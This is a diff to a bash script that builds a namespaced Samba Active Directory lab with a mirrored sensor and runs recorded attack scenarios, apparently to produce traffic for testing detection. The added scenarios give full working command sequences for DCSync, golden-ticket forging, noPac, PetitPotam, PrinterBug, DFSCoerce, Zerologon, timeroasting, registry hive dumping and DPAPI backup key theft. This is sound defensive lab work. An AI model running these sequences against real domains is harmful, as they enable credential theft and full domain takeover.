@@ -6,9 +6,11 @@
 #   dcwlab-client  cl0 10.98.0.2 <== veth ==> dc0 10.98.0.1  dcwlab-dc   (Samba AD DC dc1.lab.example)
 #                                             dc0 ingress+egress --tc u32+mirred--> span0
 #   dcwlab-sensor  sensor0 (no address, promiscuous) <== veth ==> span0    (the SPAN port)
+#   dcwlab-client  log0 10.98.1.2  <== veth ==> log1 10.98.1.1  dcwlab-sensor  (syslog to the sensor)
 #
 # usage: lab.sh up | down | status | scenario list|all|NAME... | check-mirror | exec dc|client|sensor CMD...
 #   CAP=1 lab.sh scenario NAME   also writes the mirror's frames (sensor side) to $CAP_DIR/NAME.pcap
+#                                (winevents-syslog: the frames of the syslog link instead)
 #
 # State (the DC's database, configs, logs, pcaps, the impacket venv) lives in ${DCWLAB_DIR:-/tmp/dcwlab}
 # and `down` removes it; downloads are cached in ${DCWLAB_CACHE:-/var/cache/dcwlab}, which survives.
@@ -24,7 +26,13 @@ readonly CAP=${CAP:-0} CAP_DIR=${CAP_DIR:-$STATE/pcaps}
 readonly NS_DC=dcwlab-dc NS_CLIENT=dcwlab-client NS_SENSOR=dcwlab-sensor
 # 10.98.0.0/24: not the shared lab's 10.99.0.0/24, so both can exist side by side.
 readonly DC_IP=10.98.0.1 CLIENT_IP=10.98.0.2
-readonly REALM=LAB.EXAMPLE DOMAIN=LAB DNSDOMAIN=lab.example DC_NAME=dc1
+# A second link, client to sensor, for what a SIEM forwards to the sensor's syslog listener: the
+# mirror carries only the DC's traffic.
+readonly SYSLOG_CLIENT_IP=10.98.1.2 SENSOR_IP=10.98.1.1 SYSLOG_PORT=514
+# filesrv01 is a member server with no host in the lab: its computer account logs on from the
+# client's address in the computer-ntlm scenario.
+readonly FILESRV_IP=10.98.0.60
+readonly REALM=LAB.EXAMPLE DOMAIN=LAB DNSDOMAIN=lab.example DC_NAME=dc1 BASE_DN=DC=lab,DC=example
 readonly ADMIN_PW='Adm1n!Passw0rd'
 readonly SMB_CONF=$DC/etc/smb.conf
 
@@ -36,7 +44,10 @@ readonly APT_PACKAGES="samba samba-ad-dc samba-ad-provision samba-dsdb-modules s
 
 # Scenarios, in the order `scenario all` runs them, and what each one is.
 readonly SCENARIOS="benign kerberoast asreproast dcsync pass-the-hash overpass-the-hash bruteforce-kerberos
- bruteforce-ntlm bruteforce-ldap spray recon-samr recon-ldap psexec axfr"
+ bruteforce-ntlm bruteforce-ldap spray recon-samr recon-ldap psexec axfr
+ ldap-sign-kerberos ldap-sign-ntlm ldap-seal dpapi-backupkey session-enum petitpotam printerbug dfscoerce
+ zerologon timeroast atexec wmiexec dcomexec remote-registry spn-modify group-modify nopac
+ honeytoken golden-ticket ldap-ping-enum computer-ntlm account-enum winevents-syslog"
 declare -A WHAT=(
     [benign]="kinit, service tickets, SMB file access with NTLM and with Kerberos, LDAP simple and GSSAPI binds and searches, DNS lookups"
     [kerberoast]="GetUserSPNs -request: LDAP SPN search, then an RC4 service ticket for svc_sql (\$krb5tgs\$23\$)"
@@ -52,7 +63,33 @@ declare -A WHAT=(
     [recon-ldap]="LDAP reconnaissance: rootDSE, SPN, no-pre-auth, adminCount and group searches, GetADUsers -all"
     [psexec]="psexec as Administrator: the .exe upload works, creating the service fails (Samba has no CreateService)"
     [axfr]="zone transfer attempts (AXFR, IXFR): Samba's DNS answers with the SOA only"
+    [ldap-sign-kerberos]="ldapsearch -Y GSSAPI -O maxssf=1 as alice: Kerberos SASL with integrity only, the searches in clear inside the GSS wrap tokens"
+    [ldap-sign-ntlm]="LDAP GSS-SPNEGO/NTLM as alice negotiating sign without seal: AD seals NTLM SASL anyway (LDAP style), so the buffers are encrypted"
+    [ldap-seal]="ldapsearch -Y GSSAPI as alice with the default security layer: Kerberos SASL sealed, the searches encrypted"
+    [dpapi-backupkey]="DPAPI domain backup key theft as Administrator: dpapi.py backupkeys (LsarRetrievePrivateData, which Samba faults), BKRP BackuprKey, LsarOpenSecret/LsarQuerySecret of G\$BCKUPKEY_*"
+    [session-enum]="SRVSVC NetrSessionEnum (levels 10, 502, 1) and NetrShareEnum (1, 2), WKSSVC NetrWkstaUserEnum as alice (sessions denied) and as Administrator (impacket), rpcclient netsessenum/netshareenumall as alice"
+    [petitpotam]="PetitPotam as alice: EFSRPC EfsRpcOpenFileRaw and EfsRpcEncryptFileSrv with a UNC to the client, over \\pipe\\lsarpc (bind refused by Samba) and \\pipe\\efsrpc (no such pipe)"
+    [printerbug]="the printer bug as alice: RpcOpenPrinter, then RpcRemoteFindFirstPrinterChangeNotificationEx with pszLocalMachine \\\\10.98.0.2: Samba answers RPC_S_SERVER_UNAVAILABLE without calling back"
+    [dfscoerce]="DFSCoerce as alice: NETDFS NetrDfsRemoveStdRoot and NetrDfsAddStdRoot with the client's address (Samba faults both)"
+    [zerologon]="Zerologon test: 5 NetrServerReqChallenge + NetrServerAuthenticate3 with zero credentials for DC1\$ over TCP, no authentication (Samba denies each)"
+    [timeroast]="Timeroasting: 40 MS-SNTP requests to UDP 123 with RIDs 1000-1004 and 1100-1134 as key ids, answered (signed by Samba's ntp_signd) for the computer accounts"
+    [atexec]="atexec as Administrator: SMB session, \\pipe\\atsvc open (Samba has no task scheduler pipe: not found)"
+    [wmiexec]="wmiexec as Administrator: DCOM activation bind on 135 (Samba refuses the interface: no DCOM)"
+    [dcomexec]="dcomexec as Administrator with MMC20 and ShellWindows: DCOM activation binds on 135 (Samba refuses them: no DCOM)"
+    [remote-registry]="remote registry as Administrator: reg.py save of HKLM\\SAM and backup (SAM, SYSTEM, SECURITY) over WINREG; Samba has no SAM or SECURITY hive and refuses the SYSTEM save"
+    [spn-modify]="LDAP modify as Administrator (simple bind): an SPN added to carol, a TGS-REQ for it, the SPN removed"
+    [group-modify]="LDAP modify as Administrator (simple bind): alice added to Domain Admins, then removed"
+    [nopac]="noPac as alice: computer NOPAC01\$ added over SAMR, its SPNs cleared, renamed to dc1 over LDAP (Samba refuses), a TGT for it and an S4U2self for Administrator; then deleted"
+    [honeytoken]="logons of the honeytoken account honey_admin: kinit and SMB with NTLM"
+    [golden-ticket]="golden ticket: DCSync of krbtgt as Administrator, impacket ticketer with its AES key for Administrator, then SMB with that forged TGT"
+    [ldap-ping-enum]="account enumeration with LDAP pings: 18 User= guesses over CLDAP and over TCP LDAP, no credentials"
+    [computer-ntlm]="the computer account filesrv01\$ (its host is 10.98.0.60) logs on over SMB NTLM from the client's address"
+    [account-enum]="Kerberos account enumeration: GetNPUsers over 20 names without credentials, 16 unknown (C_PRINCIPAL_UNKNOWN)"
+    [winevents-syslog]="Windows events over UDP syslog to the sensor (10.98.1.1:514) in the RSA, CEF, Splunk and QRadar layouts: 7045, 4728, 4732, 4756, 12 x 4726"
 )
+
+# Where CAP=1 captures a scenario when it is not the mirror (sensor0).
+declare -A CAPTURE_ON=([winevents-syslog]=log1)
 
 log() { printf '[dcwlab %(%H:%M:%S)T] %s\n' -1 "$*" >&2; }
 die() {
@@ -103,6 +140,14 @@ network_up() {
         ip link add dc0 netns $NS_DC address 02:00:0a:62:00:01 type veth peer cl0 netns $NS_CLIENT address 02:00:0a:62:00:02
     ip -n $NS_DC link show span0 >/dev/null 2>&1 ||
         ip link add span0 netns $NS_DC address 02:00:0a:62:00:fe type veth peer sensor0 netns $NS_SENSOR address 02:00:0a:62:00:ff
+    ip -n $NS_CLIENT link show log0 >/dev/null 2>&1 ||
+        ip link add log0 netns $NS_CLIENT address 02:00:0a:62:01:02 type veth peer log1 netns $NS_SENSOR address 02:00:0a:62:01:01
+    ip -n $NS_CLIENT addr replace $SYSLOG_CLIENT_IP/24 dev log0
+    ip -n $NS_SENSOR addr replace $SENSOR_IP/24 dev log1
+    ip -n $NS_CLIENT link set log0 up
+    ip -n $NS_SENSOR link set log1 up
+    no_offloads $NS_CLIENT log0
+    no_offloads $NS_SENSOR log1
     ip -n $NS_DC addr replace $DC_IP/24 dev dc0
     ip -n $NS_CLIENT addr replace $CLIENT_IP/24 dev cl0
     ip -n $NS_DC link set dc0 up
@@ -261,12 +306,17 @@ EOF
 export KRB5_CONFIG=$CLIENT/krb5.conf KRB5CCNAME=$CLIENT/krb5cc LDAPTLS_REQCERT=never
 export PATH=$VENV/bin:\$PATH
 export DC_IP=$DC_IP REALM=$REALM DOMAIN=$DOMAIN DNSDOMAIN=$DNSDOMAIN DC_FQDN=$DC_NAME.$DNSDOMAIN BASE=dc=lab,dc=example
-export CLIENT=$CLIENT CSMB=$CLIENT/smb.conf IMP="python $TOOLS/impacket_samba.py"
+export CLIENT=$CLIENT CSMB=$CLIENT/smb.conf TOOLS=$TOOLS IMP="python $TOOLS/impacket_samba.py"
+export CLIENT_IP=$CLIENT_IP SENSOR_IP=$SENSOR_IP SYSLOG_PORT=$SYSLOG_PORT DC_NAME=$DC_NAME
 export ADMIN_PW='$ADMIN_PW' ALICE_PW='Alice!Passw0rd1' BOB_PW='Bob!Passw0rd1' CAROL_PW='Carol!Passw0rd1' SVC_PW='Svc!Sql2024x'
+export HONEY_PW='Honey!Passw0rd1' IT_ADMIN_PW='ItAdmin!Passw0rd1' FILESRV_PW='Filesrv!Passw0rd1' NOPAC_PW='Nopac!Passw0rd1'
 export WRONG_PWS='Password1 Winter2024! Summer2025! Welcome1 Carol2024 Qwerty123! Letmein1! Passw0rd! Company1 Spring2025!'
 cd $CLIENT
 EOF
     printf 'alice\nbob\ncarol\nsvc_sql\nAdministrator\nnosuchuser\n' >"$CLIENT/users.txt"
+    # Account enumeration's guesses: 4 accounts that exist (none without pre-authentication), 16 that do not.
+    printf '%s\n' alice jsmith carol mjones admin svc_sql backup sqladmin test Administrator \
+        helpdesk guest1 webadmin jdoe operator scanner svc_backup itsupport dbadmin printer >"$CLIENT/enum-users.txt"
     echo "hello from the DC's share" >"$DC/share/readme.txt"
     chmod 1777 "$DC/share"
 }
@@ -312,6 +362,17 @@ samba_pid() {
 
 listening() { ip netns exec $NS_DC ss -Hltn "sport = :$1" | grep -q "$DC_IP:$1"; }
 
+# The DC's time service: Samba signs MS-SNTP answers for ntpd or chrony through its ntp_signd
+# socket and runs none itself; tools/ntp_signd_server.py is the smallest such server. `down`
+# ends it with the namespace's other processes.
+ntp_start() {
+    local pid
+    pid=$(cat "$DC/run/ntp.pid" 2>/dev/null) && kill -0 "$pid" 2>/dev/null && return 0
+    ip netns exec $NS_DC setsid /usr/bin/python3 "$TOOLS/ntp_signd_server.py" $DC_IP "$DC/run/ntp_signd/socket" \
+        >>"$LOGS/ntp.log" 2>&1 </dev/null &
+    echo $! >"$DC/run/ntp.pid"
+}
+
 samba_start() {
     samba_pid >/dev/null && return 0
     in_dc "samba -s $SMB_CONF -D"
@@ -342,10 +403,30 @@ configure_domain() {
         samba-tool spn add MSSQLSvc/sql01.$DNSDOMAIN:1433 svc_sql $conf
         /usr/bin/python3 $TOOLS/set_uac.py $SMB_CONF bob on
         /usr/bin/python3 $TOOLS/set_uac.py $SMB_CONF krbtgt on
+        # krbtgt's keys at version 2, where a Windows domain's are after promotion (and where
+        # impacket's ticketer puts a forged TGT's): a fresh Samba domain has them at 1.
+        samba-tool user setpassword krbtgt --random-password $conf
         samba-tool dns zonecreate $DC_IP 0.98.10.in-addr.arpa $admin >/dev/null
         samba-tool dns add $DC_IP 0.98.10.in-addr.arpa 1 PTR $DC_NAME.$DNSDOMAIN $admin >/dev/null
         samba-tool dns add $DC_IP $DNSDOMAIN sql01 A 10.98.0.50 $admin >/dev/null
-        samba-tool dns add $DC_IP $DNSDOMAIN client1 A $CLIENT_IP $admin >/dev/null" \
+        samba-tool dns add $DC_IP $DNSDOMAIN client1 A $CLIENT_IP $admin >/dev/null
+        # A honeytoken: an account nobody uses, whose every logon is an alert.
+        samba-tool user add honey_admin 'Honey!Passw0rd1' --description='honeytoken' $conf
+        # Sensitive through a chain: it_admin is in IT-Admins, which is in Domain Admins.
+        samba-tool group add IT-Admins $conf
+        samba-tool group addmembers 'Domain Admins' IT-Admins $conf
+        samba-tool user add it_admin 'ItAdmin!Passw0rd1' $conf
+        samba-tool group addmembers IT-Admins it_admin $conf
+        # The client's own computer account, and a member server's whose password the lab knows.
+        samba-tool computer create client1 $conf
+        samba-tool user setpassword 'client1\$' --random-password $conf
+        samba-tool computer create filesrv01 --ip-address=$FILESRV_IP $admin $conf
+        samba-tool user setpassword 'filesrv01\$' --newpassword='Filesrv!Passw0rd1' $conf
+        # Samba ignores ms-DS-MachineAccountQuota: alice gets what it grants every user on Windows,
+        # creating computer objects in CN=Computers (noPac starts there).
+        alice=\$(samba-tool user show alice --attributes=objectSid $conf | sed -n 's/^objectSid: //p')
+        samba-tool dsacl set --objectdn=CN=Computers,$BASE_DN --action=allow \
+            --sddl=\"(OA;CI;CC;bf967a86-0de6-11d0-a285-00aa003049e2;;\$alice)\" $conf >/dev/null" \
         >>"$LOGS/configure.log" 2>&1 || {
         tail -20 "$LOGS/configure.log" >&2
         die "configuring the domain failed"
@@ -363,6 +444,7 @@ cmd_up() {
     write_configs
     provisioned || provision
     samba_start
+    ntp_start
     configure_domain
     log "lab is up in $((SECONDS - started)) s: DC $DC_NAME.$DNSDOMAIN $DC_IP ($NS_DC), client $CLIENT_IP ($NS_CLIENT), mirror sensor0 ($NS_SENSOR)"
 }
@@ -607,6 +689,240 @@ scenario_axfr() {
     expect_in 'SOA' axfr.out
 }
 
+# ---- LDAP inside SASL: integrity only with Kerberos and with NTLM, and sealed.
+
+# The searches the three SASL scenarios make: SPNs, Domain Admins' members, adminCount=1.
+sasl_searches() {
+    ldapsearch -LLL -N -Y GSSAPI "$@" -H ldap://$DC_FQDN -b $BASE "(&(objectCategory=person)(servicePrincipalName=*))" sAMAccountName servicePrincipalName
+    ldapsearch -LLL -N -Y GSSAPI "$@" -H ldap://$DC_FQDN -b $BASE "(cn=Domain Admins)" member
+    ldapsearch -LLL -N -Y GSSAPI "$@" -H ldap://$DC_FQDN -b $BASE "(adminCount=1)" sAMAccountName
+}
+
+scenario_ldap-sign-kerberos() {
+    kdestroy 2>/dev/null || true
+    kinit alice <<<"$ALICE_PW" >/dev/null
+    # maxssf=1: a security layer with integrity and no confidentiality (GSS wrap tokens, Sealed flag clear).
+    sasl_searches -O maxssf=1 >sign-krb.out 2>sasl.err
+    cat sasl.err sign-krb.out
+    expect_in 'SASL SSF: 1$' sasl.err
+    expect_in 'servicePrincipalName: MSSQLSvc' sign-krb.out
+}
+
+scenario_ldap-sign-ntlm() {
+    LDAP_PASSWORD=$ALICE_PW python $TOOLS/ldap_ntlm_sign.py $DC_IP $DOMAIN alice $BASE \
+        "(&(objectCategory=person)(servicePrincipalName=*))" "(cn=Domain Admins)" "(adminCount=1)" >sign-ntlm.out
+    cat sign-ntlm.out
+    expect_in 'CN=svc_sql' sign-ntlm.out
+}
+
+scenario_ldap-seal() {
+    kdestroy 2>/dev/null || true
+    kinit alice <<<"$ALICE_PW" >/dev/null
+    sasl_searches >seal.out 2>sasl.err
+    cat sasl.err seal.out
+    expect_in 'SASL SSF: 256$' sasl.err
+    expect_in 'servicePrincipalName: MSSQLSvc' seal.out
+}
+
+# ---- DCE-RPC: secrets, enumeration, coercion, remote execution.
+
+scenario_dpapi-backupkey() {
+    # impacket reads the secrets with LsarRetrievePrivateData, which Samba does not implement.
+    timeout 60 $IMP dpapi.py backupkeys -t "$DOMAIN/Administrator:$ADMIN_PW@$DC_IP" >dpapi.out 2>&1 || true
+    LSA_PASSWORD=$ADMIN_PW python $TOOLS/lsa_backupkey.py $DOMAIN Administrator $DC_IP >>dpapi.out
+    cat dpapi.out
+    expect_in 'nca_s_op_rng_error' dpapi.out
+    expect_in '^G\$BCKUPKEY_[0-9A-F-]{36}: [0-9]+ bytes' dpapi.out
+}
+
+scenario_session-enum() {
+    # Samba answers NetrSessionEnum to administrators only (Windows to every user until hardened).
+    RPC_PASSWORD=$ALICE_PW python $TOOLS/rpc_attacks.py sessions $DC_IP $DOMAIN alice - >sessions.out
+    RPC_PASSWORD=$ADMIN_PW python $TOOLS/rpc_attacks.py sessions $DC_IP $DOMAIN Administrator - >>sessions.out
+    rpcclient -s $CSMB -U "$DOMAIN/alice%$ALICE_PW" $DC_IP -c "netsessenum; netshareenumall" >>sessions.out 2>&1 || true
+    cat sessions.out
+    expect_in 'NetrSessionEnum level 10: .*access_denied' sessions.out
+    expect_in 'session .*Administrator' sessions.out
+    expect_in 'share sysvol' sessions.out
+}
+
+scenario_petitpotam() {
+    RPC_PASSWORD=$ALICE_PW python $TOOLS/rpc_attacks.py efsrpc $DC_IP $DOMAIN alice $CLIENT_IP >efsrpc.out
+    cat efsrpc.out
+    expect_in 'lsarpc EfsRpcOpenFileRaw' efsrpc.out
+    expect_in 'lsarpc EfsRpcEncryptFileSrv' efsrpc.out
+    expect_in 'efsrpc: open refused' efsrpc.out
+}
+
+scenario_printerbug() {
+    RPC_PASSWORD=$ALICE_PW python $TOOLS/rpc_attacks.py printerbug $DC_IP $DOMAIN alice $CLIENT_IP >printerbug.out
+    cat printerbug.out
+    expect_in 'RpcOpenPrinter: answered' printerbug.out
+    # Samba refuses to notify the client (it does not even try to connect back).
+    expect_in 'RpcRemoteFindFirstPrinterChangeNotificationEx: .*RPC_S_SERVER_UNAVAILABLE' printerbug.out
+}
+
+scenario_dfscoerce() {
+    RPC_PASSWORD=$ALICE_PW python $TOOLS/rpc_attacks.py dfscoerce $DC_IP $DOMAIN alice $CLIENT_IP >dfscoerce.out
+    cat dfscoerce.out
+    expect_in 'NetrDfsRemoveStdRoot: ' dfscoerce.out
+    expect_in 'NetrDfsAddStdRoot: ' dfscoerce.out
+}
+
+scenario_zerologon() {
+    python $TOOLS/rpc_attacks.py zerologon $DC_IP $DOMAIN ${DC_NAME^^} - >zerologon.out
+    cat zerologon.out
+    expect_in 'try 5 NetrServerAuthenticate3: .*STATUS_ACCESS_DENIED' zerologon.out
+}
+
+scenario_timeroast() {
+    # The first RIDs (DC1$ is 1000) and the range of the lab's accounts (client1$ and filesrv01$
+    # among them): 40 requests, answered for the computer accounts only.
+    {
+        python $TOOLS/timeroast.py $DC_IP 1000 5
+        python $TOOLS/timeroast.py $DC_IP 1100 35
+    } >timeroast.out
+    cat timeroast.out
+    expect_in '^RID 1000: 68-byte answer' timeroast.out
+    expect_in '^RID 1103: no answer' timeroast.out
+}
+
+scenario_atexec() {
+    timeout 60 $IMP atexec.py "$DOMAIN/Administrator:$ADMIN_PW@$DC_IP" whoami >atexec.out 2>&1 || true
+    cat atexec.out
+    expect_in 'STATUS_OBJECT_NAME_NOT_FOUND' atexec.out
+}
+
+scenario_wmiexec() {
+    timeout 60 $IMP wmiexec.py -nooutput "$DOMAIN/Administrator:$ADMIN_PW@$DC_IP" whoami >wmiexec.out 2>&1 || true
+    cat wmiexec.out
+    expect_in 'abstract_syntax_not_supported' wmiexec.out
+}
+
+scenario_dcomexec() {
+    local object
+    for object in MMC20 ShellWindows; do
+        timeout 60 $IMP dcomexec.py -nooutput -object $object "$DOMAIN/Administrator:$ADMIN_PW@$DC_IP" whoami || true
+    done >dcomexec.out 2>&1
+    cat dcomexec.out
+    expect_in 'abstract_syntax_not_supported' dcomexec.out
+}
+
+scenario_remote-registry() {
+    {
+        timeout 60 $IMP reg.py "$DOMAIN/Administrator:$ADMIN_PW@$DC_IP" save -keyName 'HKLM\SAM' -o '\\'$CLIENT_IP'\share' || true
+        timeout 60 $IMP reg.py "$DOMAIN/Administrator:$ADMIN_PW@$DC_IP" backup -o '\\'$CLIENT_IP'\share' || true
+    } >reg.out 2>&1
+    cat reg.out
+    expect_in "Couldn't save HKLM.SAM" reg.out
+    expect_in "Couldn't save HKLM.SYSTEM: .*ERROR_BAD_PATHNAME" reg.out
+}
+
+# ---- LDAP changes.
+
+# Applies an LDIF from standard input as Administrator, with a simple bind (the changes in clear).
+ldap_admin_modify() { ldapmodify -x -H ldap://$DC_IP -D Administrator@$DNSDOMAIN -w "$ADMIN_PW"; }
+
+scenario_spn-modify() {
+    # Targeted kerberoasting: an SPN on a user who had none, a ticket for it, the SPN removed.
+    printf 'dn: CN=carol,CN=Users,%s\nchangetype: modify\nadd: servicePrincipalName\nservicePrincipalName: http/carol-web.%s\n-\n' $BASE $DNSDOMAIN |
+        ldap_admin_modify
+    kdestroy 2>/dev/null || true
+    kinit alice <<<"$ALICE_PW" >/dev/null
+    kvno http/carol-web.$DNSDOMAIN
+    printf 'dn: CN=carol,CN=Users,%s\nchangetype: modify\ndelete: servicePrincipalName\nservicePrincipalName: http/carol-web.%s\n-\n' $BASE $DNSDOMAIN |
+        ldap_admin_modify
+}
+
+scenario_group-modify() {
+    printf 'dn: CN=Domain Admins,CN=Users,%s\nchangetype: modify\nadd: member\nmember: CN=Alice Lab,CN=Users,%s\n-\n' $BASE $BASE |
+        ldap_admin_modify
+    ldapsearch -LLL -x -H ldap://$DC_IP -D alice@$DNSDOMAIN -w "$ALICE_PW" -b $BASE "(cn=Domain Admins)" member >group.out
+    printf 'dn: CN=Domain Admins,CN=Users,%s\nchangetype: modify\ndelete: member\nmember: CN=Alice Lab,CN=Users,%s\n-\n' $BASE $BASE |
+        ldap_admin_modify
+    cat group.out
+    expect_in 'member: CN=Alice Lab' group.out
+}
+
+scenario_nopac() {
+    local dn="CN=NOPAC01,CN=Computers,$BASE" bind=(-x -H ldap://$DC_IP -D alice@$DNSDOMAIN -w "$ALICE_PW")
+    # SMB 2.1: over SMB 3 impacket and Samba disagree on the key that protects the new password.
+    python $TOOLS/smb21.py addcomputer.py -computer-name 'NOPAC01$' -computer-pass "$NOPAC_PW" -dc-ip $DC_IP \
+        "$DNSDOMAIN/alice:$ALICE_PW" >nopac.out 2>&1
+    # noPac clears the SPNs first, so the rename is not refused for an SPN clash (SAMR set none).
+    printf 'dn: %s\nchangetype: modify\nreplace: servicePrincipalName\n-\n' "$dn" | ldapmodify "${bind[@]}" >>nopac.out 2>&1
+    # CVE-2021-42278: a computer renamed to the DC's name without its $. Samba refuses it.
+    printf 'dn: %s\nchangetype: modify\nreplace: sAMAccountName\nsAMAccountName: %s\n-\n' "$dn" $DC_NAME |
+        ldapmodify "${bind[@]}" >>nopac.out 2>&1 || true
+    rm -f 'NOPAC01$.ccache' Administrator@cifs_*.ccache
+    $IMP getTGT.py -dc-ip $DC_IP "$REALM/NOPAC01\$:$NOPAC_PW" >>nopac.out 2>&1
+    # CVE-2021-42287's second half: S4U2self for Administrator with the machine's TGT.
+    KRB5CCNAME='NOPAC01$.ccache' timeout 60 $IMP getST.py -self -impersonate Administrator -altservice cifs/$DC_FQDN \
+        -k -no-pass -dc-ip $DC_IP "$REALM/NOPAC01\$" >>nopac.out 2>&1 || true
+    ldapdelete -x -H ldap://$DC_IP -D Administrator@$DNSDOMAIN -w "$ADMIN_PW" "$dn"
+    cat nopac.out
+    expect_in 'Successfully added machine account NOPAC01' nopac.out
+    expect_in "must have a trailing" nopac.out
+    expect_in 'Saving ticket in NOPAC01' nopac.out
+}
+
+# ---- Logons and tickets that should not be.
+
+scenario_honeytoken() {
+    kdestroy 2>/dev/null || true
+    kinit honey_admin <<<"$HONEY_PW" >/dev/null
+    klist
+    smbclient -s $CSMB -L //$DC_IP -U "$DOMAIN/honey_admin%$HONEY_PW" --use-kerberos=off
+}
+
+scenario_golden-ticket() {
+    local sid aes
+    # The whole DCSync: -just-dc-user's single-object replication (EXOP_REPL_OBJ) fails in impacket
+    # against Samba ("byte indices must be integers").
+    $IMP secretsdump.py -just-dc "$DOMAIN/Administrator:$ADMIN_PW@$DC_IP" >golden.out
+    aes=$(sed -n 's/^krbtgt:aes256-cts-hmac-sha1-96:\([0-9a-f]*\)$/\1/p' golden.out)
+    [ -n "$aes" ] || { echo "no krbtgt AES key in the DCSync output" >&2; return 1; }
+    sid=$(rpcclient -s $CSMB -U "$DOMAIN/alice%$ALICE_PW" $DC_IP -c lsaquery | sed -n 's/^Domain Sid: //p')
+    rm -f Administrator.ccache
+    # The forged TGT is made offline; only its use is on the wire. Without KRB5CCNAME, which
+    # ticketer would otherwise copy into the new cache ahead of the forged ticket.
+    env -u KRB5CCNAME $IMP ticketer.py -aesKey "$aes" -domain-sid "$sid" -domain $DNSDOMAIN Administrator >>golden.out 2>&1
+    printf 'shares\nexit\n' >smb-commands.txt
+    KRB5CCNAME=Administrator.ccache timeout 60 $IMP smbclient.py -k -no-pass -dc-ip $DC_IP -inputfile smb-commands.txt \
+        "$REALM/Administrator@$DC_FQDN" >>golden.out 2>&1 || true
+    grep -v '^krbtgt:' golden.out
+    expect_in 'ticket in Administrator.ccache' golden.out
+    expect_in 'IPC\$' golden.out
+}
+
+scenario_ldap-ping-enum() {
+    python $TOOLS/ldap_ping.py $DC_IP $DNSDOMAIN alice bob carol Administrator svc_sql jsmith mjones admin backup \
+        sqladmin test helpdesk webadmin jdoe operator scanner svc_backup itsupport >ldap-ping.out
+    cat ldap-ping.out
+    expect_in '^cldap alice: LOGON_SAM_LOGON_RESPONSE_EX' ldap-ping.out
+    expect_in '^ldap jsmith: LOGON_SAM_USER_UNKNOWN_EX' ldap-ping.out
+}
+
+scenario_computer-ntlm() {
+    smbclient -s $CSMB //$DC_IP/share -U "$DOMAIN/filesrv01\$%$FILESRV_PW" --use-kerberos=off -c "ls" >computer.out
+    cat computer.out
+    expect_in 'readme.txt' computer.out
+}
+
+scenario_account-enum() {
+    $IMP GetNPUsers.py -dc-ip $DC_IP -usersfile enum-users.txt -no-pass "$REALM/" >enum.out 2>&1 || true
+    cat enum.out
+    expect_in "User alice doesn't have UF_DONT_REQUIRE_PREAUTH" enum.out
+}
+
+scenario_winevents-syslog() {
+    local sid
+    sid=$(rpcclient -s $CSMB -U "$DOMAIN/alice%$ALICE_PW" $DC_IP -c lsaquery | sed -n 's/^Domain Sid: //p')
+    python $TOOLS/winevents_syslog.py $SENSOR_IP $SYSLOG_PORT $DOMAIN $DNSDOMAIN "$sid" $DC_NAME >winevents.out
+    cat winevents.out
+    expect_in '^qradar 4726 old_user12$' winevents.out
+}
+
 scenario_exists() { [ -n "${WHAT[$1]:-}" ]; }
 
 # Runs one scenario in the client namespace, with a pcap of the mirror when CAP=1.
@@ -616,11 +932,11 @@ run_scenario() {
     if [ "$CAP" = 1 ]; then
         mkdir -p "$CAP_DIR"
         pcap=$CAP_DIR/$name.pcap
-        capture_start $NS_SENSOR sensor0 "$pcap"
+        capture_start $NS_SENSOR "${CAPTURE_ON[$name]:-sensor0}" "$pcap"
         capture=$CAPTURE_PID
     fi
     echo "### scenario $name: ${WHAT[$name]}" >"$log"
-    timeout 300 bash -c 'in_client "$@"' _ "set -Eeo pipefail; $(declare -f expect_in nt_hash guess_passwords kinit_carol smb_carol ldap_carol "scenario_$name"); scenario_$name" \
+    timeout 300 bash -c 'in_client "$@"' _ "set -Eeo pipefail; $(declare -f expect_in nt_hash guess_passwords kinit_carol smb_carol ldap_carol sasl_searches ldap_admin_modify "scenario_$name"); scenario_$name" \
         >>"$log" 2>&1 || rc=$?
     if [ -n "$capture" ]; then
         capture_stop "$capture" "$pcap"
